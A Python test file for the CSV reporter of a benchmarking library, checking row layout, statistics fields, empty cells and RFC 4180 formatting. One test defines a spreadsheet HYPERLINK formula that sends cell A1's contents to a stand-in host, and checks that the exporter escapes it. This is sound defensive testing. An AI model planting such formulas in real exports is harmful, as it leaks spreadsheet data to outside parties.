"""The CSV of a report holds every number, and runs nowhere."""

from __future__ import annotations

import csv
import io

import attrs

from benchbook import Report, restore
from benchbook.plugins.reporters.csv_file import HEADER, CsvReporter
from benchbook.testing import toy_report
from reports_made import ablation_report

REPORT = ablation_report()
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"q")'


def read(report: Report) -> list[dict[str, str]]:
    """The rows as a program reads them."""
    return list(csv.DictReader(io.StringIO(CsvReporter().render(report).decode(), newline="")))


def chosen(rows: list[dict[str, str]], **wanted: str) -> list[dict[str, str]]:
    """The rows with these cells."""
    return [row for row in rows if wanted.items() <= row.items()]


def test_there_is_one_row_for_each_scope_condition_and_metric() -> None:
    """Thirteen conditions by six metrics: once, for each bucket, for each topic."""
    rows = read(REPORT)
    keys = {(row["scope"], row["group"], row["condition"], row["metric"]) for row in rows}

    assert 13 * 6 * (1 + 5 + 50) == len(rows) == len(keys)
    assert {REPORT.id} == {row["report"] for row in rows}


def test_a_mean_stands_with_its_interval_and_its_difference() -> None:
    """As recorded, unrounded, with the positions of both."""
    (row,) = chosen(read(REPORT), scope="all", condition="interactive", metric="nDCG@10")
    number = REPORT.conditions[1].numbers[3]
    compared = next(one for one in REPORT.comparisons if one.metric == "nDCG@10")
    assert number.bounds
    assert number.tied
    assert compared.bounds

    expected = {
        "value": number.value,
        "n": "50",
        "of": "50",
        "low": number.bounds.low,
        "high": number.bounds.high,
        "method": "student-t",
        "tied_low": number.tied.low,
        "tied_high": number.tied.high,
        "tied_expected": number.tied.expected or "",
        "difference": compared.difference,
        "diff_low": compared.bounds.low,
        "diff_high": compared.bounds.high,
        "diff_method": "sign-flip inversion",
        "p": compared.p,
        "p_corrected": compared.corrected,
        "declared": "yes",
        "wins": str(compared.wins),
        "ties": str(compared.ties),
        "losses": str(compared.losses),
        "detectable": compared.detectable,
        "verdict": "ties decide",
        "reason": compared.reason,
        "positions": "13 16 17 40",
    }

    assert expected == {name: row[name] for name in HEADER[5:]}


def test_the_baseline_is_compared_with_nothing() -> None:
    """Its cells are empty."""
    (row,) = chosen(read(REPORT), scope="all", condition="full_deep", metric="nDCG@10")

    assert {""} == {row[name] for name in HEADER[HEADER.index("difference") : -1]}


def test_what_is_not_measured_is_empty_and_says_why() -> None:
    """Never 0, and never a word that a program would take for a number."""
    (row,) = chosen(read(REPORT), scope="all", condition="no_retracted", metric="R@10")

    assert ("", "0", "50") == (row["value"], row["n"], row["of"])
    assert row["reason"].startswith("lane hyde skipped")


def test_topics_have_their_values() -> None:
    """One for each condition and metric, with where the mean comes from."""
    rows = chosen(read(REPORT), scope="topic", group="q007", condition="full_deep")

    assert list(REPORT.topics[6].values[0]) == [row["value"] for row in rows]
    assert {("1", "1", "13 16 17")} == {(row["n"], row["of"], row["positions"]) for row in rows}


def test_a_bucket_that_is_a_formula_becomes_text_and_comes_back() -> None:
    """A spreadsheet shows it; a program restores it."""
    bucket = attrs.evolve(REPORT.buckets[0], name=FORMULA)
    rows = chosen(read(attrs.evolve(REPORT, buckets=(bucket,))), scope="bucket")

    assert {"'" + FORMULA} == {row["group"] for row in rows}
    assert {FORMULA} == {restore(row["group"]) for row in rows}


def test_negative_numbers_stay_numbers() -> None:
    """No apostrophe makes text of a difference."""
    rows = chosen(read(REPORT), scope="all", metric="nDCG@10", verdict="worse")

    assert all(float(row["difference"]) < 0 for row in rows)
    assert rows


def test_it_is_rfc_4180() -> None:
    """A header, CRLF after every line, as many cells in each, quotes doubled."""
    text = CsvReporter().render(toy_report()).decode()
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))

    assert list(HEADER) == rows[0]
    assert {len(HEADER)} == set(map(len, rows))
    assert text.count("\n") == text.count("\r\n") == len(rows)
